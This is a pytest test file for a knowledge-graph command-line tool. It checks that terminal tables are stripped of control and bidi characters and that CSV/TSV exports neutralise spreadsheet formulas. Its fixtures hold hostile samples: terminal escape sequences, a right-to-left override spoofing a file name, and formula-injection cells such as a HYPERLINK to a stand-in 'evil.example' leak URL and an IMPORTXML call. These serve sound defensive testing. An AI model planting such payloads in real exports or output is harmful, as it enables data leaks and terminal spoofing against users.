"""Article text reaching people: terminal tables cannot drive the terminal, CSV/TSV cells cannot
run as spreadsheet formulas, and the SPARQL formats stay exact where they are standard."""
from __future__ import annotations

import csv
import io
import json

import pytest
from rdflib import Literal, URIRef

from kg import api
from kg.cli import main
from kg.sparql.results import csv_text, format_result, spreadsheet_safe, table, terminal_safe
from kg.store import QueryResult
from kg.views.network import TimelineRow

DANGEROUS = [chr(c) for c in (*range(0x00, 0x20), *range(0x7F, 0xA0))] + \
    [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
HOSTILE = ("Russia attacked Ukraine on 12 July 2025 with drones \x1b]0;owned\x07\x1b[2J\u009b31m\u202egnp.exe\b\r"
           ", officials said.\n\n=HYPERLINK(\"http://evil.example/?leak\") Russia attacked Kyiv on 13 July 2025.")
FORMULAS = ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1"]
KEPT = ["-3", "+1.5", "-0.5e3", "2025-07-12", "-0044-03-15", "2025-07-12T10:00:00+07:00", "Lavrov", "", "a=b"]


def run(capsys, *argv):
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def _terminal_clean(text: str) -> bool:
    return not any(c in text for c in DANGEROUS if c != "\n")


@pytest.fixture
def hostile_timeline(monkeypatch):
    """``kg timeline`` over events whose article text holds terminal escapes and a formula (the
    reader may clean some of them at ingest; a remote store or an older store need not have)."""
    def row(date: str, sentence: str) -> TimelineRow:
        return TimelineRow(date=date, earliest=date, latest=date, type="ASSAULT", modality="asserted",
                           source=["Russia"], target=["Ukraine"], according_to=[], place=None, sentence=sentence,
                           article="hostile", trigger="attacked", event=f"urn:event:{date}")

    sentences = HOSTILE.split("\n\n")
    monkeypatch.setattr(api, "timeline", lambda *args, **kwargs: [row("2025-07-12", sentences[0]),
                                                                   row("2025-07-13", sentences[1])])


def test_terminal_safe_leaves_no_control_or_bidi_character():
    text = "".join(DANGEROUS) + "ok"
    assert _terminal_clean(terminal_safe(text)) and "\n" not in terminal_safe(text)
    assert terminal_safe("a\tb\r\nc") == "a b c" and terminal_safe("Сергей Лавров") == "Сергей Лавров"


def test_table_cells_and_header_are_terminal_safe():
    out = table([["\x1b[2J" + "x" * 100, "\u202eevil\nline"]], ["na\x07me", "b"], max_width=20)
    assert _terminal_clean(out) and out.count("\n") == 4 and "x" * 10 in out


def test_kg_timeline_and_query_tables_carry_no_escapes(hostile_timeline, capsys):
    code, out, _ = run(capsys, "timeline", "--store", "memory")
    assert code == 0 and "drones \ufffd]0;owned\ufffd" in out and _terminal_clean(out)
    code, out, _ = run(capsys, "query", 'SELECT ?x WHERE { BIND("a\\u001B[2J\\u009B\\u202Eb\\r\\nc" AS ?x) }',
                       "--store", "memory")
    assert code == 0 and "a\ufffd[2J\ufffd\ufffdb c" in out and _terminal_clean(out)


def test_construct_and_json_escape_controls_but_keep_the_text(capsys):
    query = 'CONSTRUCT { <urn:a> <urn:p> ?x } WHERE { BIND("a\\u001B[2J\\u202Eb" AS ?x) }'
    code, out, _ = run(capsys, "query", query, "--store", "memory")
    assert code == 0 and _terminal_clean(out) and "\\u001B[2J\\u202Eb" in out
    out = run(capsys, "query", query.replace("CONSTRUCT { <urn:a> <urn:p> ?x }", "SELECT ?x"), "--format", "json",
              "--store", "memory")[1]
    assert _terminal_clean(out) and json.loads(out)["results"]["bindings"][0]["x"]["value"] == "a\x1b[2J\u202eb"


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_quoted(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", KEPT)
def test_numbers_dates_and_text_are_kept(cell):
    assert spreadsheet_safe(cell) == cell


def test_csv_text_round_trips_through_a_csv_reader():
    rows = [[c, 1] for c in FORMULAS + KEPT] + [[None, "x,\"y\"\nz"]]
    parsed = list(csv.reader(io.StringIO(csv_text(["cell", "n"], rows))))
    assert parsed[0] == ["cell", "n"] and [r[0] for r in parsed[1:-1]] == ["'" + c for c in FORMULAS] + KEPT
    assert parsed[-1] == ["", "x,\"y\"\nz"]
    assert list(csv.reader(io.StringIO(csv_text(["a"], [["=1", "b"]], "\t")), delimiter="\t"))[1] == ["'=1", "b"]


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def test_kg_timeline_csv_neutralises_formulas(hostile_timeline, capsys):
    code, out, _ = run(capsys, "timeline", "--format", "csv", "--store", "memory")
    sentences = [c for c in _cells(out) if "HYPERLINK" in c]
    assert code == 0 and sentences and all(c.startswith("'=HYPERLINK") for c in sentences)


def test_kg_query_csv_and_tsv_neutralise_formulas(capsys):
    query = 'SELECT ?f ?n ?d WHERE { BIND("=HYPERLINK(\\"http://x\\")" AS ?f) BIND(-3 AS ?n) BIND("-2025-07-12" AS ?d) }'
    out = run(capsys, "query", query, "--format", "csv", "--store", "memory")[1]
    assert _cells(out) == ["f", "n", "d", "'=HYPERLINK(\"http://x\")", "-3", "-2025-07-12"]
    out = run(capsys, "query", query, "--format", "tsv", "--store", "memory")[1]
    assert out.splitlines()[1].split("\t")[0] == '"\'=HYPERLINK(\\"http://x\\")"'


def test_kg_actors_csv_and_table(monkeypatch, capsys):
    actor = {"id": "urn:a", "name": "=IMPORTXML(\"http://x\",\"//a\")\x1b[2J", "kind": "person", "country": None,
             "mentions": 1, "events": -1, "roles": ["@role"], "aliases": ["+alias"]}
    monkeypatch.setattr(api, "actors", lambda *args, **kwargs: [actor])
    out = run(capsys, "actors", "--format", "csv", "--store", "memory")[1]
    assert _cells(out)[8:] == ["'" + actor["name"], "person", "", "1", "-1", "'@role", "'+alias", "urn:a"]
    out = run(capsys, "actors", "--store", "memory")[1]
    assert _terminal_clean(out) and "=IMPORTXML" in out


def test_standard_formats_stay_standard_by_default():
    result = QueryResult("select", ["x", "y"], [(Literal("=1+1"), URIRef("urn:a")), (Literal("a\nb\tc"), None)])
    assert format_result(result, "csv") == 'x,y\n=1+1,urn:a\n"a\nb\tc",\n'
    assert format_result(result, "tsv") == '?x\t?y\n"=1+1"\t<urn:a>\n"a\\nb\\tc"\t\n'
